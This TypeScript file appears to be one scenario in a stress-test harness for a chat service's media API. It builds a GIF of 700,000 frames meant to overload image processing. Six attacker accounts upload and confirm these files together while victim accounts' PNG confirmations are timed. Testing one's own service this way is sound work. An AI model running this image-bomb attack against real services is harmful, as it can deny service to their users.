import type { Attack } from "./attack.js";
import { repeat } from "./heavy.js";
import type { Member } from "./members.js";
import { timed } from "./victims.js";

/** A GIF of so many frames of 8 by 8 pixels, each in as few bytes as it takes. */
function animationOf(frames: number): Uint8Array<ArrayBuffer> {
  const head = Buffer.from("GIF89a\x08\0\x08\0\x80\0\0\0\0\0\xff\xff\xff", "latin1");
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0]);
  return new Uint8Array(Buffer.concat([head, ...Array<Buffer>(frames).fill(frame), Buffer.from(";")]));
}

const animation = animationOf(700_000);

/** The files of each attacker: as many as are confirmed before the attack ends, and fewer than may be pending. */
const uploadsEach = 12;
const uploads = new Map<Member, string[]>();

/** A PNG of one pixel. */
const pixel = new Uint8Array(
  Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  ),
);

type FileOf = Pick<Parameters<Member["vero"]["media"]["createUploadUrl"]>[0], "file_name" | "content_type">;

async function upload({ vero }: Member, file: FileOf, body: Uint8Array<ArrayBuffer>): Promise<string> {
  const { media_id, upload_url, headers } = await vero.media.createUploadUrl({ ...file, size_bytes: body.length });
  const { ok, status } = await fetch(upload_url, { method: "PUT", headers, body });
  if (!ok) throw new Error(`An upload was answered with ${status}.`);
  return media_id;
}

export const animations: Attack = {
  summary: "6 confirmations at once of animations of 700,000 frames",
  attackers: 6,
  victimsAlso: {
    name: "confirmations of a PNG",
    everyMs: 3_500,
    async act(member) {
      const id = await upload(member, { file_name: "a.png", content_type: "image/png" }, pixel);
      return timed("A confirmation", () => member.request("POST", `/v1/chat/media/${id}/confirm`, {}));
    },
  },
  async prepare({ attackers }) {
    for (const member of attackers) {
      const ids: string[] = [];
      while (ids.length < uploadsEach)
        ids.push(await upload(member, { file_name: "a.gif", content_type: "image/gif" }, animation));
      uploads.set(member, ids);
    }
  },
  run: ({ attackers }, ended) =>
    repeat(attackers, 1, ended, async (member) => {
      const id = uploads.get(member)?.pop();
      return id === undefined ? { status: 0 } : member.request("POST", `/v1/chat/media/${id}/confirm`, {});
    }),
};
